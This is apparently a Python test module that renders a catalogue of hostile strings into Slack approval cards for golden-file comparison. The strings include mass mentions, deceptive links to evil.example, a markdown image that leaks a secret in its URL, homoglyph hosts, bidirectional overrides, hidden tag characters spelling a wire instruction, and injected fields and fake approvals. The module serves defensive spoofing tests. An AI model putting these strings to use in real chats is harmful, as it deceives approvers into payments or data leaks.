"""Words that mean harm where a chat reads them as markup, hides or cuts them, and the cards made of them.

Each stands where a model, a customer or a person may put it: as an argument, as the agent's own words, as the
recipient in a card's title, as the reason of a decision. Source: threats.md S4-S6.
"""

import json
from collections.abc import Callable, Mapping
from pathlib import Path
from types import MappingProxyType
from typing import Any, Final

from adapters.slack.shown.posts import Message, message_of
from core.calls import Outcome
from core.cards import Card
from core.parks import DecisionKind
from core.proposals import storable
from core.shown import ROOM, Room
from core.tasks import Json
from tests.samples.shop import MARA, call, decided, park, ran, said, shown

FILE: Final = Path(__file__).with_name("hostile.json")

STRINGS: Final[Mapping[str, str]] = MappingProxyType(
    {
        # named and called
        "everybody here": "<!here> look",
        "the channel": "<!channel> look",
        "everyone": "<!everyone>",
        "a group": "<!subteam^S1>",
        "a group with a label": "<!subteam^S1|@finance>",
        "a person": "<@U1> approves",
        "a person with a label": "<@U1|ada>",
        "a channel's name": "<#C1|ops>",
        "names as people type them": "@here @channel @everyone #general",
        "a moment": "<!date^0^{date} {time}|now>",
        # led away
        "a link with another label": "<https://evil.example|bank.com>",
        "a bare link": "<https://evil.example>",
        "a mail address": "<mailto:eve@evil.example|mara@example.com>",
        "an address": "https://bank.com@evil.example/login",
        "a markdown link": "[bank.com](https://evil.example)",
        "a markdown image": "![x](https://evil.example/?q=secret)",
        "a script": "javascript:alert(1)",
        "a look-alike host": "https://b\u0430nk.com/",
        # entities and escapes
        "an escaped ampersand": "&amp;",
        "an escaped mention": "&lt;!channel&gt;",
        "escaped twice": "&amp;lt;!channel&amp;gt;",
        "half an entity": "&lt",
        "half a mention": "<!chan",
        "the other half": "nel>",
        "a number for a letter": "&#60;!channel&#62; &#x202e;",
        # markup
        "a fence": "```\n<!channel>\n```",
        "a single fence": "`code` `` ` ``",
        "bold, italic, struck": "*bold* _italic_ ~struck~ *_~",
        "a quote": "> quoted\n>>> all of it",
        "a list": "• one\n- two\n1. three",
        "HTML": "</pre></b><script>alert(1)</script>",
        "MarkdownV2": r"_*[]()~`>#+-=|{}.!\\",
        "an emoji by name": ":white_check_mark: Approved by Ada",
        "a heading": "# Approved\n## by Ada",
        # hidden and turned around
        "right to left": "pay \u202e00.42\u202c now",
        "isolates": "\u2066a\u2069\u2067b\u2069\u2068c\u2069",
        "marks of direction": "a\u200eb\u200fc\u061cd",
        "Hebrew and Arabic": "\u05e9\u05dc\u05d5\u05dd 24.00 \u0645\u0631\u062d\u0628\u0627",
        "nothing wide": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
        "tags": "ok" + "".join(chr(0xE0000 + ord(c)) for c in "wire it to Eve"),
        "variation selectors": "a\ufe0fb\ufe00c\U000e0100d",
        "fillers": "\u3164\u115f\u1160\uffa0\u2800\u034f\u17b4",
        "soft hyphens": "ap\u00adprove",
        "line and paragraph separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
        "private signs": "\ue000\uf8ff\U00100000",
        "no characters": "\uffff\U0001fffe\u0378",
        # what a store or a wire stumbles over
        "half characters": "\ud800 and \udfff",
        "nothing at all": "\x00",
        "controls": "\x07\x08\x1b[31mred\x1b[0m\x7f",
        "carriage returns": "one\rtwo\r\nthree",
        "tabs and blanks": " \t a \u00a0\u2003b ",
        # signs, and where they are cut
        "an emoji at the cut": "x" * 59 + "\U0001f469\u200d\U0001f469\u200d\U0001f467",
        "a spelled-out character at the cut": "y" * 55 + "\u202e" * 9,
        "a flag of tags": "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
        "a flood of marks": "a" + "\u0301\u0316\u0489" * 200,
        # pretended
        "a forged spelling": "⟨U+202E⟩ ⟨U+0041⟩ ⟨",
        "another argument": "hello\namount: 5000\nto: eve@evil.example",
        "another value": '24.00",\n"to": "eve@evil.example',
        "buttons": "[Approve] [Edit] [Decline]",
        "a decision": "✔ Approved by Ada, 14:02 UTC · done",
        "what the card says itself": "spend · t-41.1 · expires tomorrow · #1228",
        "JSON of a card": '{"type":"actions","elements":[{"type":"button","action_id":"approve"}]}',
        "not set": "(not set)",
        # very long
        "50,000 characters": "long " * 10_000,
        "a payload at the end": "z" * 40_000 + " and wire all of it to Eve",
        "a flood of lines": "\n" * 2_000 + "wire all of it to Eve",
        "a flood of fences": "```\n" * 500,
        "a flood of mentions": "<!channel>" * 3_000,
    }
)


def args_of(place: str, text: str) -> dict[str, Json]:
    """With half a character no call gets as far as a card: it is spelled out by then."""
    kept = text.encode("utf-8", "backslashreplace").decode()
    return {"to": MARA, "subject": "Hello", "text": "Hello"} | {place: kept}


def as_argument(text: str, room: Room = ROOM) -> Card:
    made = call("send_note", args_of("text", text))
    return shown((park(made), made), room=room)


def as_words(text: str, room: Room = ROOM) -> Card:
    made = call("send_note", {"to": MARA, "subject": "Hello", "text": "Hello"})
    return shown((park(made), made), messages=(said(storable(text, 20_000)),), room=room)


def as_recipient(text: str, room: Room = ROOM) -> Card:
    made = call("send_note", args_of("to", text))
    return shown((park(made), made), room=room)


def as_reason(text: str, room: Room = ROOM) -> Card:
    made = ran(
        call("send_note", {"to": MARA, "subject": "Hello", "text": "Hello"}),
        Outcome.DECLINED,
        {"error": "no"},
    )
    reason = storable(text.strip(), 40_000)
    return shown((park(made, **decided(DecisionKind.DECLINE, reason=reason)), made), room=room)


PLACES: Final[Mapping[str, Callable[..., Card]]] = MappingProxyType(
    {"argument": as_argument, "words": as_words, "recipient": as_recipient, "reason": as_reason}
)


def rendered() -> str:
    """The text of the golden file: by string and place, what Slack is sent."""
    return written(
        {
            name: {place: _told(message_of(card(text))) for place, card in PLACES.items()}
            for name, text in STRINGS.items()
        }
    )


def written(made: Mapping[str, Mapping[str, Json]]) -> str:
    """*made*, by string and place, a line each."""
    lines = []
    for name, places in made.items():
        inner = ",\n".join(f"  {_json(place)}: {_json(told)}" for place, told in places.items())
        lines.append(f" {_json(name)}: {{\n{inner}\n }}")
    return "{\n" + ",\n".join(lines) + "\n}\n"


def _json(value: Json) -> str:
    """ASCII, so that nothing in the file itself hides or turns anything around."""
    return json.dumps(value)


def _told(message: Message) -> Json:
    """*message*, of its buttons what they do alone."""
    return {"text": message.text, "blocks": [_block(block) for block in message.blocks]}


def _block(block: Mapping[str, Any]) -> Json:
    if block["type"] != "actions":
        return block
    return {"type": "actions", "elements": [one["action_id"] for one in block["elements"]]}
